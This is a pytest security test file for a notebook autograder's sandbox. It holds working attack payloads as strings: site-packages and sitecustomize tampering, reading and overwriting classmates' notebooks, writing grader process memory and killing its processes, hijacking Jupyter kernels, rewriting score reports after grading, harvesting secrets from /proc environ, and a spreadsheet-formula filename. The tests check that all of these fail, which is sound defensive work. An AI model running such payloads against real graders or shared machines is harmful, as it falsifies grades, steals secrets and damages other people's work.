"""Attacks that reach past the notebook: tampering that outlives it, the grader, classmates, the answer
key, names and metadata. Each is a reproducer notebook graded by ``minimoe grade`` in the sandbox."""

import os
import time

import pytest

from answer_key import WRAPPERS
from minimoe.grading.registry import exercises_for_chapter
from attack_helpers import SECRET, TOKEN, Batch, World, add_cells, check_batch, notebook, run_all, verdict

CH00 = "00_setup_and_tour.ipynb"
CH05 = "05_keeping_experts_busy.ipynb"
FULL = {"00.linear_params": 2.0, "00.softmax": 4.0}
ZERO = {"00.linear_params": 0.0, "00.softmax": 0.0}
MARKER = f"CLASSMATE-CODE-{TOKEN}"

TAMPER = f'''
import os, site, torch, minimoe
TOKEN = {TOKEN!r}
pkg = os.path.dirname(minimoe.__file__)
payload = "\\nimport minimoe.grading.registry as r; r.expect_close = r.expect_equal = lambda *a, **k: None  # " + TOKEN + "\\n"
targets = [os.path.join(pkg, "grading", n) for n in ("student.py", "registry.py", "feedback.py", "checks/ch00.py")]
targets += [os.path.join(p, "zz_minimoe_attack.pth") for p in site.getsitepackages()]
targets += [os.path.join(os.path.dirname(torch.__file__), "utils", "serialization", "config.py"),
            os.path.join(os.path.dirname(torch.__file__), "serialization.py")]
wrote = []
for target in targets:
    try:
        with open(target, "a") as f:
            f.write(payload)
        wrote.append(target)
    except OSError:
        pass
for folder in [pkg, os.path.join(pkg, "grading")] + site.getsitepackages():
    try:
        open(os.path.join(folder, "sitecustomize.py"), "w").write(payload)
        wrote.append(folder)
    except OSError:
        pass
try:
    os.chmod(targets[0], 0o777)
    wrote.append("chmod")
except OSError:
    pass
if wrote:
    raise RuntimeError(f"REPORT wrote {{wrote}}")
'''


def classmate(victim: str, out: str) -> str:
    return f'''
import glob, json, os
found = []
for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        found += [a.decode() for a in open(cmdline, "rb").read().split(b"\\0") if a.endswith(b".ipynb")]
    except OSError:
        pass
stolen = []
for path in [{victim!r}] + found:
    try:
        nb = json.load(open(path))
        for cell in nb["cells"]:
            if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                exec("".join(cell["source"]))
        stolen.append("read " + path)
    except Exception:
        pass
# Writes are judged from outside (the classmate's bytes, the --out folder): inside, a write may
# land in the sandbox's own private /tmp and prove nothing.
try:
    open({victim!r}, "w").write("{{}}")
except OSError:
    pass
try:
    os.makedirs(os.path.join({out!r}, "zz_victim_solution"), exist_ok=True)
    open(os.path.join({out!r}, "zz_victim_solution", "results.json"), "w").write('{{"score": 0}}')
except OSError:
    pass
if found or stolen:
    raise RuntimeError(f"REPORT found {{found[:3]}} {{stolen}}")
'''


def signals(grader_hints: list[int]) -> str:
    return f'''
import os, signal
hints = {grader_hints!r}
hit = []
for pid in sorted(set(int(p) for p in os.listdir("/proc") if p.isdigit()) | set(hints)):
    if pid == os.getpid():
        continue
    try:
        with open(f"/proc/{{pid}}/mem", "r+b") as mem:
            mem.seek(0x400000)
            mem.write(b"\\xcc")
        hit.append(("wrote the memory of", pid))
    except (OSError, ValueError):
        pass
    for sig in (signal.SIGSTOP, signal.SIGKILL) if pid in hints else (signal.SIGSTOP,):
        try:
            os.kill(pid, sig)
            if pid in hints:
                hit.append((sig, pid))
        except OSError:
            pass
if hit:
    raise RuntimeError(f"REPORT {{hit}}")
'''


DAEMON = f'''
import subprocess, sys
DAEMON = r"""
import glob, os, time
end = time.time() + 300
hook = ("get_ipython().events.register('pre_run_cell', lambda *a: globals().update("
        "stable_softmax=lambda x, dim=-1: x * 0, count_linear_params=lambda *a, **k: -1))")
seen = set()
while time.time() < end:
    for path in glob.glob("/tmp/*/io/kernel-*.json") + glob.glob("/tmp/*/*/io/kernel-*.json") + glob.glob("/tmp/**/kernel-*.json"):
        if path in seen:
            continue
        seen.add(path)
        try:
            from jupyter_client import BlockingKernelClient
            client = BlockingKernelClient(connection_file=path)
            client.load_connection_file()
            client.start_channels()
            client.execute(hook)
        except Exception:
            pass
    time.sleep(0.2)
"""
subprocess.Popen([sys.executable, "-c", DAEMON, {TOKEN!r}], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''


def setsid_writer(out: str) -> str:
    return f'''
import subprocess, sys
WRITER = r"""
import json, os, sys, time
time.sleep(2)
end = time.time() + 120
while time.time() < end:
    for root, dirs, files in os.walk({out!r}):
        for name in files:
            try:
                open(os.path.join(root, name), "w").write(json.dumps({{"score": 100, "max_score": 6}}))
            except OSError:
                pass
    time.sleep(0.5)
"""
subprocess.Popen(["setsid", sys.executable, "-c", WRITER, {TOKEN!r}], stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
subprocess.Popen([sys.executable, "-c", WRITER, {TOKEN!r}], process_group=0, stdout=subprocess.DEVNULL,
                 stderr=subprocess.DEVNULL)
'''


def leak(victim: str) -> str:
    # The message a check shows is short: a leak puts what matters first.
    return f'''
import glob, os
def count_linear_params(in_features, out_features, bias=True):
    try:
        stolen = open({victim!r}).read()
        stolen = stolen[stolen.find("CLASSMATE"):][:120]
    except OSError as e:
        stolen = "no classmate"
    secrets = [v for k, v in os.environ.items() if "SECRET" in k or "secret" in v]
    for p in glob.glob("/proc/[0-9]*/environ"):
        try:
            secrets += [x.decode() for x in open(p, "rb").read().split(b"\\0") if b"SECRET" in x]
        except OSError:
            pass
    batch = [a for p in glob.glob("/proc/[0-9]*/cmdline") for a in open(p, "rb").read().decode().split("\\0")
             if a.endswith(".ipynb") or "out" in a]
    raise ValueError(f"{{stolen}} {{secrets}} {{batch}} {{sorted(os.environ)}}")
'''


SOLUTIONS = '''
import glob, json, os, minimoe
found = []
here = os.path.dirname(minimoe.__file__)
while here != "/":
    here = os.path.dirname(here)
    found += glob.glob(os.path.join(here, "*", "*.ipynb")) + glob.glob(os.path.join(here, "*.ipynb"))
for top, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr", "/etc", "/lib", "/lib64")]
    found += [os.path.join(top, f) for f in files if f.endswith(".ipynb")]
used = []
for path in found:
    try:
        text = open(path).read()
    except OSError:
        continue
    if "BEGIN SOLUTION" in text:
        for cell in json.loads(text)["cells"]:
            if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
                exec("".join(cell["source"]))
        used.append(path)
if used:
    raise RuntimeError(f"REPORT used {used}")
'''


@pytest.fixture(scope="module")
def attacks(tmp_path_factory):
    root = tmp_path_factory.mktemp("reach")
    reach = Batch(root, "reach", "00")
    victim = reach.dir / "zz_victim_solution.ipynb"
    victim_nb = add_cells(notebook(CH00), f"# {MARKER}\nprint('my own work')")
    reach.add("tamper", add_cells(notebook(CH00, "exercise"), TAMPER), ZERO)
    reach.add("classmate", add_cells(notebook(CH00, "exercise"), classmate(str(victim), str(reach.out))), ZERO)
    reach.add("signals", add_cells(notebook(CH00), signals([os.getpid(), os.getppid()]), after="import torch"), FULL)
    reach.add("daemon", add_cells(notebook(CH00, "exercise"), DAEMON, after="import torch"), ZERO)
    reach.add("setsid_writer", add_cells(notebook(CH00, "exercise"), setsid_writer(str(reach.out))), ZERO)
    reach.add("leak", add_cells(notebook(CH00, "exercise"), leak(str(victim))), ZERO)
    reach.add("solutions", add_cells(notebook(CH00, "exercise"), SOLUTIONS), ZERO)
    reach.add("wrappers", add_cells(notebook(CH00, "exercise"), WRAPPERS["00"]), ZERO)
    reach.add("zz_victim_solution", victim_nb, FULL)
    reach.add("zz_victim_blank", notebook(CH00, "exercise"), ZERO)

    names = Batch(root, "names", "00", args=("--timeout", "180", "--cell-timeout", "20", "--memory", "2",
                                            "--student-id", r"^s(?P<id>\d+)_"), relative=True)
    blank = notebook(CH00, "exercise")
    names.add("dots", blank, ZERO, filename="...ipynb")
    names.add("summary", blank, ZERO, filename="summary.csv.ipynb")
    names.add("formula", blank, ZERO, filename="=HYPERLINK(1).ipynb")
    names.add("student", notebook(CH00), FULL, filename="s12345_setup.ipynb")

    chapter = Batch(root, "chapter", "05")
    disguised = notebook(CH05, "exercise")
    disguised.metadata["minimoe"] = {"chapter": "00"}
    disguised = add_cells(disguised, "from minimoe.grading import check\ncheck('00.softmax')")
    zero05 = {ex.id: 0.0 for ex in exercises_for_chapter("05")}
    chapter.add("disguised", disguised, zero05, filename=CH00)
    chapter.add("wrappers05", add_cells(notebook(CH05, "exercise"), WRAPPERS["05"]), zero05)

    world = World(root)
    batches = [reach, names, chapter]
    run_all(batches, parallel=3)
    after_exit = {p: p.read_bytes() for p in reach.out.rglob("*") if p.is_file()}
    time.sleep(6)  # the setsid writer would strike now, after the grader has exited
    return {"reach": reach, "names": names, "chapter": chapter, "world": world.changes(), "after_exit": after_exit}


def test_the_grader_held_and_nothing_outside_changed(attacks):
    for name in ("reach", "names", "chapter"):
        check_batch(attacks[name], attacks["world"])


@pytest.mark.parametrize("name", ["tamper", "classmate", "signals", "daemon", "setsid_writer", "leak", "solutions",
                                  "wrappers", "zz_victim_solution", "zz_victim_blank"])
def test_verdicts(attacks, name):
    verdict(attacks["reach"], name)
    assert "REPORT" not in attacks["reach"].text(name), attacks["reach"].result(name)["output"]


def test_tampering_with_the_package_or_site_packages_fails_and_outlives_nothing(attacks):
    reach = attacks["reach"]
    assert "cgroup for memory" in reach.result("tamper")["extra_data"]["sandbox"]
    verdict(reach, "zz_victim_solution")  # later students: a full solution keeps full marks
    verdict(reach, "zz_victim_blank")  # and a blank one gains nothing


def test_classmates_and_the_grader_are_out_of_sight(attacks):
    reach = attacks["reach"]
    victim = next(s for s in reach.submissions if s.name == "zz_victim_solution")
    assert victim.path.read_bytes() == victim.data
    verdict(reach, "zz_victim_solution")
    assert reach.points("signals") == FULL  # the grader was neither stopped nor written to


def test_nothing_outlives_grading(attacks):
    reach = attacks["reach"]
    later = {p: p.read_bytes() for p in reach.out.rglob("*") if p.is_file()}
    assert later == attacks["after_exit"], "a report changed after the grader exited"


def test_feedback_holds_no_grader_environment_or_classmate(attacks):
    reach = attacks["reach"]
    text = reach.text("leak")
    assert "count_linear_params` raised ValueError" in text  # the student's own message did come back
    for secret in (SECRET, MARKER, str(reach.out), "zz_victim", "pytest", str(reach.dir)):
        assert secret not in text, secret


def test_the_answer_key_is_out_of_reach(attacks):
    reach = attacks["reach"]
    assert "own answer" in reach.text("wrappers")
    chapter = attacks["chapter"]
    assert "own answer" in chapter.text("wrappers05")


def test_the_chapter_comes_from_the_assignment(attacks):
    chapter = attacks["chapter"]
    report = chapter.result("disguised")
    points = sum(c.points for ex in exercises_for_chapter("05") for c in ex.checks)
    assert points > 0 and points != sum(c.points for ex in exercises_for_chapter("00") for c in ex.checks)
    assert report["extra_data"]["chapter"] == "05" and report["max_score"] == points


def test_names_make_safe_folders_directly_under_out(attacks):
    names = attacks["names"]
    assert not (names.dir / "results.json").exists()
    folders = sorted(p.name for p in names.out.iterdir())
    assert all(not f.startswith(".") for f in folders) and "summary.csv" in folders
    assert (names.out / "summary.csv").is_file()
    rows = (names.out / "summary.csv").read_text().splitlines()
    assert any(",12345," in r for r in rows), rows  # the student id from the file name pattern
    assert not any(r.startswith("=") or ",=" in r for r in rows), rows  # no spreadsheet formulas
    for name in ("dots", "summary", "formula", "student"):
        verdict(names, name)
